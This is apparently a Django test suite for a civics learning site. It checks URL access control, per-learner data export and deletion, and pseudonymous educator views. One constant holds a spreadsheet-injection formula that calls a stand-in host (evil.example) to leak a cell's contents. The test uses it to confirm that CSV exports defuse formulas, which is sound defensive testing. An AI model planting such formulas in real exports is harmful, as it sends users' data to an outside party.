"""Privacy: a learner's data is theirs alone. They can download all of it and delete it; no one
else can see or change it. Every URL of the site is listed below with how it is protected, so a
new URL without an entry fails the suite."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import AnonymousUser, Group, Permission
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode

from civics.accounts.views import confirmation_token, csv_safe
from civics.content.models import Lesson
from civics.progress.models import ActionTick, LearnerProfile, LessonRead
from quizzes import services
from quizzes.models import Answer, Attempt, Question, Quiz, ReviewItem, Slot
from tests.factories import LessonFactory, UserFactory

User = get_user_model()
PASSWORD = "correct horse battery staple"  # UserFactory's
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


# --- A small world: two learners and an anonymous one, each with their own data ----------


@dataclass
class World:
    alice: User
    bob: User
    anonymous_token: str
    victims: dict[str, Attempt] = field(default_factory=dict)
    """Attempts the intruders go after: Alice's and the anonymous learner's."""


def answer(attempt: Attempt, position: int, *, right: bool, text: str = "") -> Answer:
    slot = attempt.slots.select_related("question").get(position=position)
    question = Question.objects.with_keys().get(pk=slot.question_id)
    if question.type == Question.Type.SHORT:
        given = services.Given(text=text or question.accepted_answers.first().text)
    else:
        assert question.type == Question.Type.SINGLE
        choice = next(c for c in question.choices.all() if (c.fraction > 0) == right)
        given = services.Given(choice_ids=(choice.pk,))
    return services.submit_answer(
        attempt=attempt,
        slot=slot,
        question=question,
        given=given,
        sequence=slot.sequence,
        now=timezone.now(),
    )


def quiz_work(quizzes: dict[str, Quiz], *, user, token: str) -> dict[str, Attempt]:
    """The reset quiz in progress (question 1 missed) and the Rubio quiz finished."""
    now = timezone.now()
    in_progress = services.start_attempt(
        quiz=quizzes["us-mexico-reset"], user=user, token=token, now=now
    )
    answer(in_progress, 1, right=False)
    finished = services.start_attempt(
        quiz=quizzes["rubio-security-collaboration"], user=user, token=token, now=now
    )
    answer(finished, 1, right=True)
    services.finish_attempt(attempt=finished, now=now)
    return {"in progress": in_progress, "finished": finished}


@pytest.fixture
def world(db) -> World:
    call_command("load_seeds", verbosity=0)
    quizzes = {quiz.slug: quiz for quiz in Quiz.objects.all()}
    actions = list(Lesson.objects.get(slug="rubio-security-collaboration").actions.all())
    now = timezone.now()
    alice, bob = UserFactory(username="alice"), UserFactory(username="bob")
    world = World(alice=alice, bob=bob, anonymous_token="anonymous-victim-token")
    for name, attempt in quiz_work(quizzes, user=alice, token="").items():
        world.victims[f"Alice's attempt {name}"] = attempt
    for name, attempt in quiz_work(
        quizzes, user=AnonymousUser(), token="anonymous-victim-token"
    ).items():
        world.victims[f"an anonymous learner's attempt {name}"] = attempt
    quiz_work(quizzes, user=bob, token="")
    for user, note in [(alice, "+1 555 0100: call my senator"), (bob, "Bob's private note")]:
        LearnerProfile.objects.create(user=user, time_zone="Europe/Paris")
        LessonRead.objects.create(user=user, lesson=actions[0].lesson, read_at=now)
        ActionTick.objects.create(user=user, action=actions[0], note=note, ticked_at=now)
        ActionTick.objects.create(user=user, action=actions[1], ticked_at=now)
    return world


def snapshot() -> dict[str, list]:
    """Counts and state of everything a learner owns."""
    return {
        "attempts": list(
            Attempt.objects.order_by("pk").values_list(
                "pk", "user_id", "anonymous_token", "state", "finished_at", "retry_of_id"
            )
        ),
        "answers": list(
            Answer.objects.order_by("pk").values_list(
                "pk", "attempt_id", "question_id", "points", "answered_at", "text", "truth"
            )
        ),
        "chosen": list(
            Answer.choices.through.objects.order_by("pk").values_list("answer_id", "choice_id")
        ),
        "slots": list(
            Slot.objects.order_by("pk").values_list("pk", "attempt_id", "position", "sequence")
        ),
        "ticks": list(
            ActionTick.objects.order_by("pk").values_list(
                "pk", "user_id", "action_id", "note", "ticked_at"
            )
        ),
        "reviews": list(
            ReviewItem.objects.order_by("pk").values_list(
                "pk", "user_id", "question_id", "box", "due_at"
            )
        ),
        "reads": list(LessonRead.objects.order_by("pk").values_list("pk", "user_id", "lesson_id")),
        "profiles": list(LearnerProfile.objects.order_by("pk").values_list("pk", "time_zone")),
    }


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def anonymous_with_token(token: str) -> Client:
    client = Client()
    session = client.session
    session["learner_token"] = token
    session.save()
    return client


# --- Every URL of the site, and how it is protected --------------------------------------

PUBLIC, LOGIN_REQUIRED, OWNED = "public", "login-required", "owned"


@dataclass(frozen=True)
class Protection:
    kind: str
    methods: tuple[str, ...]
    url: Callable
    """For public and login-required URLs, called with the World; for owned ones, with the
    learner-owned object (an Attempt)."""
    data: Callable = lambda target: {}  # POST data, built like ``url``


def _second_question_answer(attempt: Attempt) -> dict:
    """A valid answer to question 2 (true/false) of the reset quiz, with its current sequence:
    if the request got through, it would be stored."""
    slot = attempt.slots.get(position=2)
    return {"seq": slot.sequence, "truth": "true"}


def _rubio_action(world: World) -> str:
    action = Lesson.objects.get(slug="rubio-security-collaboration").actions.first()
    return f"/lessons/{action.lesson.slug}/actions/{action.pk}/tick/"


def _reset_link(world: World) -> str:
    return (
        f"/account/password/reset/{urlsafe_base64_encode(force_bytes(world.alice.pk))}/bad-token/"
    )


def _confirm_link(world: World) -> str:
    """A real confirmation link: it proves the mailbox, so anyone holding it may open it."""
    LearnerProfile.objects.filter(user=world.alice).update(unconfirmed_email="a2@example.org")
    return f"/account/email/confirm/{confirmation_token(world.alice, 'a2@example.org')}/"


SITE_URLS: dict[str, Protection] = {
    # Content: open to everyone (drafts are 404 for non-staff; tested in tests/civics).
    "": Protection(PUBLIC, ("GET",), lambda w: "/"),
    "healthz": Protection(PUBLIC, ("GET",), lambda w: "/healthz"),
    "topics/<slug:slug>/": Protection(PUBLIC, ("GET",), lambda w: "/topics/government/"),
    "lessons/<slug:slug>/": Protection(
        PUBLIC, ("GET",), lambda w: "/lessons/rubio-security-collaboration/"
    ),
    # Public, but it only ever changes the requester's own checklist (see the test below).
    "lessons/<slug:slug>/actions/<int:pk>/tick/": Protection(
        PUBLIC, ("POST",), _rubio_action, lambda w: {"done": "1"}
    ),
    # Starting a quiz creates the requester's own attempt.
    "quizzes/<slug:slug>/start/": Protection(
        PUBLIC, ("POST",), lambda w: "/quizzes/rubio-security-collaboration/start/"
    ),
    # Accounts.
    "account/signup/": Protection(PUBLIC, ("GET",), lambda w: "/account/signup/"),
    "account/login/": Protection(PUBLIC, ("GET",), lambda w: "/account/login/"),
    "account/logout/": Protection(PUBLIC, ("POST",), lambda w: "/account/logout/"),
    "account/password/reset/": Protection(PUBLIC, ("GET",), lambda w: "/account/password/reset/"),
    "account/password/reset/sent/": Protection(
        PUBLIC, ("GET",), lambda w: "/account/password/reset/sent/"
    ),
    # Guarded by the signed token in the link, not by a session.
    "account/password/reset/<uidb64>/<token>/": Protection(PUBLIC, ("GET",), _reset_link),
    "account/password/reset/complete/": Protection(
        PUBLIC, ("GET",), lambda w: "/account/password/reset/complete/"
    ),
    "account/email/confirm/<str:token>/": Protection(PUBLIC, ("GET", "POST"), _confirm_link),
    "account/": Protection(LOGIN_REQUIRED, ("GET", "POST"), lambda w: "/account/"),
    "account/password/": Protection(
        LOGIN_REQUIRED, ("GET", "POST"), lambda w: "/account/password/"
    ),
    "account/password/done/": Protection(
        LOGIN_REQUIRED, ("GET",), lambda w: "/account/password/done/"
    ),
    "account/email/": Protection(
        LOGIN_REQUIRED, ("POST",), lambda w: "/account/email/", lambda w: {"email": "x@example.org"}
    ),
    "account/export/": Protection(LOGIN_REQUIRED, ("GET",), lambda w: "/account/export/"),
    "account/delete/": Protection(LOGIN_REQUIRED, ("GET", "POST"), lambda w: "/account/delete/"),
    # Progress: the signed-in learner's own, found through request.user.
    "dashboard/": Protection(LOGIN_REQUIRED, ("GET",), lambda w: "/dashboard/"),
    "review/start/": Protection(LOGIN_REQUIRED, ("POST",), lambda w: "/review/start/"),
    # Attempts: owned by an account or by an anonymous session's learner token.
    "attempts/<int:pk>/": Protection(OWNED, ("GET",), lambda a: f"/attempts/{a.pk}/"),
    "attempts/<int:pk>/questions/<int:position>/": Protection(
        OWNED,
        ("GET", "POST"),
        lambda a: f"/attempts/{a.pk}/questions/2/",
        _second_question_answer,
    ),
    "attempts/<int:pk>/summary/": Protection(
        OWNED, ("GET",), lambda a: f"/attempts/{a.pk}/summary/"
    ),
    "attempts/<int:pk>/finish/": Protection(
        OWNED, ("POST",), lambda a: f"/attempts/{a.pk}/finish/"
    ),
    "attempts/<int:pk>/result/": Protection(OWNED, ("GET",), lambda a: f"/attempts/{a.pk}/result/"),
    "attempts/<int:pk>/practise-missed/": Protection(
        OWNED, ("POST",), lambda a: f"/attempts/{a.pk}/practise-missed/"
    ),
}


def site_routes(patterns=None, prefix: str = "") -> list[str]:
    """Every route of the site outside the admin, as its full pattern."""
    routes = []
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            if pattern.namespace == "admin":
                continue  # Django's admin: staff only, with its own permission checks
            routes += site_routes(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            assert isinstance(pattern, URLPattern)
            routes.append(prefix + str(pattern.pattern))
    return routes


def of_kind(kind: str) -> list[str]:
    return [route for route, protection in SITE_URLS.items() if protection.kind == kind]


def request(client: Client, method: str, url: str, data: dict):
    return client.get(url) if method == "GET" else client.post(url, data)


def test_every_url_of_the_site_says_how_it_is_protected():
    routes = site_routes()

    assert len(routes) == len(set(routes))
    assert set(routes) - set(SITE_URLS) == set(), "add these URLs to SITE_URLS"
    assert set(SITE_URLS) - set(routes) == set(), "these entries name URLs that are gone"
    assert {p.kind for p in SITE_URLS.values()} == {PUBLIC, LOGIN_REQUIRED, OWNED}


@pytest.mark.parametrize("route", of_kind(PUBLIC))
def test_public_urls_answer_anyone(world, route):
    protection = SITE_URLS[route]
    for method in protection.methods:
        url = protection.url(world)
        response = request(Client(), method, url, protection.data(world))

        assert response.status_code in (200, 302), (method, url, response.status_code)
        assert not response.get("Location", "").startswith("/account/login/")


@pytest.mark.parametrize("route", of_kind(LOGIN_REQUIRED))
def test_login_required_urls_send_anonymous_visitors_to_log_in(world, route):
    protection = SITE_URLS[route]
    before = snapshot()
    for method in protection.methods:
        url = protection.url(world)
        response = request(
            anonymous_with_token(world.anonymous_token), method, url, protection.data(world)
        )

        assert response.status_code == 302, (method, url)
        assert response["Location"] == f"/account/login/?next={quote(url)}"
    assert snapshot() == before


@pytest.mark.parametrize("route", of_kind(OWNED))
def test_someone_elses_object_is_404_and_nothing_changes(world, route):
    protection = SITE_URLS[route]
    own_anonymous = Client()
    own_anonymous.post("/quizzes/us-mexico-reset/start/")  # an attempt (and token) of its own
    assert own_anonymous.session["learner_token"]
    intruders = {
        "Bob, signed in": signed_in(world.bob),
        "another anonymous session": own_anonymous,
        "a fresh anonymous session": Client(),
    }
    before = snapshot()

    for victim_name, attempt in world.victims.items():
        for intruder_name, client in intruders.items():
            for method in protection.methods:
                url = protection.url(attempt)
                response = request(client, method, url, protection.data(attempt))

                assert response.status_code == 404, (intruder_name, method, url, victim_name)
    assert snapshot() == before

    # The owners themselves get through: the URLs above were the right ones.
    owners = {
        world.alice: signed_in(world.alice),
        None: anonymous_with_token(world.anonymous_token),
    }
    for attempt in world.victims.values():
        owner = owners[attempt.user]
        for method in protection.methods:
            url = protection.url(attempt)
            response = request(owner, method, url, protection.data(attempt))
            assert response.status_code != 404, (method, url)


def test_ticking_changes_only_the_requesters_own_checklist(world):
    action = Lesson.objects.get(slug="rubio-security-collaboration").actions.first()
    url = f"/lessons/{action.lesson.slug}/actions/{action.pk}/tick/"
    alices = ActionTick.objects.get(user=world.alice, action=action)

    signed_in(world.bob).post(url, {"done": "0"})
    Client().post(url, {"done": "1", "note": "overwritten?"})
    signed_in(world.bob).post(url, {"done": "1", "note": "Bob again"})

    kept = ActionTick.objects.get(user=world.alice, action=action)
    assert (kept.pk, kept.note, kept.ticked_at) == (alices.pk, alices.note, alices.ticked_at)


def test_starting_a_review_uses_only_the_requesters_queue(world):
    now = timezone.now()
    ReviewItem.objects.update(due_at=now)  # Alice's and Bob's misses are due
    reset = Quiz.objects.get(slug="us-mexico-reset")
    ReviewItem.objects.create(  # and Alice has one more, the most overdue, in the same quiz
        user=world.alice,
        question=reset.questions.order_by("order")[3],
        box=2,
        due_at=now - dt.timedelta(days=2),
        updated_at=now,
    )
    before = set(Attempt.objects.values_list("pk", flat=True))

    response = signed_in(world.bob).post("/review/start/")

    review = Attempt.objects.exclude(pk__in=before).get()
    assert response["Location"] == f"/attempts/{review.pk}/"
    assert review.user == world.bob
    bobs = set(ReviewItem.objects.filter(user=world.bob).values_list("question_id", flat=True))
    assert len(bobs) == 1
    assert set(review.slots.values_list("question_id", flat=True)) == bobs


# --- Download all of my data -------------------------------------------------------------


def export(world: World) -> zipfile.ZipFile:
    response = signed_in(world.alice).get("/account/export/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="civicpath-alice-')
    return zipfile.ZipFile(io.BytesIO(response.content))


def rows(archive: zipfile.ZipFile, name: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode())))


def test_export_holds_json_and_four_csvs_of_the_learners_own_rows(world):
    alice = world.alice
    archive = export(world)

    assert set(archive.namelist()) >= {
        "civicpath.json",
        "attempts.csv",
        "answers.csv",
        "checklist.csv",
        "review_queue.csv",
    }
    document = json.loads(archive.read("civicpath.json"))
    assert document["account"] == {
        "username": "alice",
        "email": "alice@example.org",
        "date_joined": alice.date_joined.isoformat(),
        "time_zone": "Europe/Paris",
        "unconfirmed_email": "",
    }
    own_attempts = {
        str(pk) for pk in Attempt.objects.filter(user=alice).values_list("pk", flat=True)
    }
    assert len(own_attempts) == 2
    assert {r["id"] for r in rows(archive, "attempts.csv")} == own_attempts
    assert {str(a["id"]) for a in document["attempts"]} == own_attempts
    answers = rows(archive, "answers.csv")
    assert (
        len(answers)
        == len(document["answers"])
        == Answer.objects.filter(attempt__user=alice).count()
    )
    assert {r["attempt"] for r in answers} <= own_attempts
    assert sorted(r["note"] for r in rows(archive, "checklist.csv")) == [
        "",
        "'+1 555 0100: call my senator",
    ]
    assert sorted(t["note"] for t in document["checklist"]) == ["", "+1 555 0100: call my senator"]
    queue = rows(archive, "review_queue.csv")
    assert [r["box"] for r in queue] == ["1"]
    assert len(document["review_queue"]) == 1
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert b"Bob's private note" not in everything


def test_export_includes_the_lessons_the_learner_has_read(world):
    # A lesson read and nothing else: no attempt or tick names it.
    only_read = LessonFactory(slug="a-lesson-only-read")
    LessonRead.objects.create(user=world.alice, lesson=only_read, read_at=timezone.now())

    archive = export(world)

    assert "a-lesson-only-read" in archive.read("civicpath.json").decode()


def test_export_defuses_spreadsheet_formulas_in_csv_cells(world):
    attempt = world.victims["Alice's attempt in progress"]
    slot = attempt.slots.filter(question__type=Question.Type.SHORT).order_by("position").first()
    question = Question.objects.with_keys().get(pk=slot.question_id)
    services.submit_answer(
        attempt=attempt,
        slot=slot,
        question=question,
        given=services.Given(text=FORMULA),
        sequence=slot.sequence,
        now=timezone.now(),
    )

    archive = export(world)

    given = [r["given"] for r in rows(archive, "answers.csv")]
    assert "'" + FORMULA in given
    assert FORMULA not in given
    # The JSON copy is data, not a spreadsheet: it keeps exactly what was typed.
    assert FORMULA in [a["given"] for a in json.loads(archive.read("civicpath.json"))["answers"]]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (FORMULA, "'" + FORMULA),
        ("Called on Tuesday", "Called on Tuesday"),
        ("a = b", "a = b"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (0.5, "0.5"),
    ],
)
def test_csv_safe_prefixes_cells_that_a_spreadsheet_would_run(value, safe):
    assert csv_safe(value) == safe


# --- Delete my account -------------------------------------------------------------------


def owned_by(user) -> dict[str, int]:
    return {
        "attempts": Attempt.objects.filter(user=user).count(),
        "answers": Answer.objects.filter(attempt__user=user).count(),
        "slots": Slot.objects.filter(attempt__user=user).count(),
        "ticks": ActionTick.objects.filter(user=user).count(),
        "reviews": ReviewItem.objects.filter(user=user).count(),
        "profiles": LearnerProfile.objects.filter(user=user).count(),
        "reads": LessonRead.objects.filter(user=user).count(),
    }


def test_deleting_the_account_needs_the_right_password(world):
    client = signed_in(world.alice)
    before = snapshot()

    response = client.post("/account/delete/", {"password": "not my password"})

    assert response.status_code == 400
    assert "That is not your password. Nothing was deleted." in response.content.decode()
    assert User.objects.filter(pk=world.alice.pk).exists()
    assert snapshot() == before
    assert client.session["_auth_user_id"] == str(world.alice.pk)


def test_deleting_the_account_removes_all_of_its_data_and_nothing_else(world):
    client = signed_in(world.alice)
    alices = list(Attempt.objects.filter(user=world.alice).values_list("pk", flat=True))
    assert all(owned_by(world.alice).values())
    bobs = owned_by(world.bob)
    anonymous = list(Attempt.objects.filter(user__isnull=True).values_list("pk", "state"))
    assert all(bobs.values()) and anonymous

    response = client.post("/account/delete/", {"password": PASSWORD})

    assert response.status_code == 302
    assert response["Location"] == "/"
    assert not User.objects.filter(username="alice").exists()
    assert not Attempt.objects.filter(pk__in=alices).exists()
    assert not Answer.objects.filter(attempt_id__in=alices).exists()
    assert not Slot.objects.filter(attempt_id__in=alices).exists()
    assert not ActionTick.objects.exclude(user=world.bob).exists()
    assert not ReviewItem.objects.exclude(user=world.bob).exists()
    assert not LearnerProfile.objects.exclude(user=world.bob).exists()
    assert not LessonRead.objects.exclude(user=world.bob).exists()
    assert owned_by(world.bob) == bobs
    assert list(Attempt.objects.filter(user__isnull=True).values_list("pk", "state")) == anonymous
    assert "_auth_user_id" not in client.session
    assert "Your account and all of its data have been deleted." in client.get("/").content.decode()


def test_the_delete_page_asks_for_the_password(world):
    response = signed_in(world.alice).get("/account/delete/")

    assert response.status_code == 200
    assert 'type="password"' in response.content.decode()


# --- Educators see results, not who the learners are ------------------------------------

LEARNER_IDENTITIES = "quizzes.view_learner_results"


def grant_identities(username: str) -> None:
    User.objects.get(username=username).user_permissions.add(
        Permission.objects.get(content_type__app_label="quizzes", codename="view_learner_results")
    )


def results_pages(world: World) -> list[str]:
    """Every admin page and export an educator reads results on."""
    urls = ["/admin/quizzes/quiz/", "/admin/quizzes/quiz/learner-progress.csv"]
    for quiz in Quiz.objects.all():
        urls += [
            f"/admin/quizzes/quiz/{quiz.pk}/change/",
            f"/admin/quizzes/quiz/{quiz.pk}/statistics/?attempts=first",
            f"/admin/quizzes/quiz/{quiz.pk}/statistics/?attempts=all",
            f"/admin/quizzes/quiz/{quiz.pk}/results.csv",
        ]
    return urls


def bodies(client: Client, urls: list[str]) -> dict[str, str]:
    pages = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        pages[url] = response.content.decode()
    return pages


def without_csrf(html: str) -> str:
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", html)


def test_no_educator_is_given_the_permission_to_see_learners_identities(db, monkeypatch):
    monkeypatch.setenv("CIVICPATH_EDUCATOR_PASSWORD", PASSWORD)
    call_command("create_educator", "edna", email="edna@example.org", stdout=io.StringIO())
    edna = User.objects.get(username="edna")
    educators = Group.objects.get(name="Educators")
    root = UserFactory(username="root", is_staff=True, is_superuser=True)

    assert Permission.objects.filter(codename="view_learner_results").exists()
    assert not educators.permissions.filter(codename="view_learner_results").exists()
    assert list(edna.groups.all()) == [educators]
    assert not edna.has_perm(LEARNER_IDENTITIES)
    assert root.has_perm(LEARNER_IDENTITIES)


def test_an_educator_without_the_permission_sees_no_learners_username(world, educator_client):
    pages = bodies(educator_client, results_pages(world))

    for url, body in pages.items():
        for learner in (world.alice, world.bob):
            assert learner.username not in body, (url, learner.username)
            assert learner.email not in body, (url, learner.email)
    progress = pages["/admin/quizzes/quiz/learner-progress.csv"]
    assert f"learner {world.alice.pk}" in progress
    assert f"learner {world.bob.pk}" in progress


def test_with_the_permission_the_same_educator_sees_usernames_and_the_same_numbers(
    world, educator_client
):
    urls = results_pages(world)
    pseudonymous = bodies(educator_client, urls)

    grant_identities("teacher")
    identified = bodies(educator_client, urls)

    progress = identified["/admin/quizzes/quiz/learner-progress.csv"]
    assert "alice" in progress and "bob" in progress
    named = {learner.username: f"learner {learner.pk}" for learner in (world.alice, world.bob)}
    for url in urls:
        if url.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(identified[url])))
            as_pseudonyms = [[named.get(row[0], row[0]), *row[1:]] for row in rows]
            assert sorted(as_pseudonyms) == sorted(csv.reader(io.StringIO(pseudonymous[url])))
        elif "/statistics/" in url:  # no identity on it either way
            assert without_csrf(identified[url]) == without_csrf(pseudonymous[url]), url
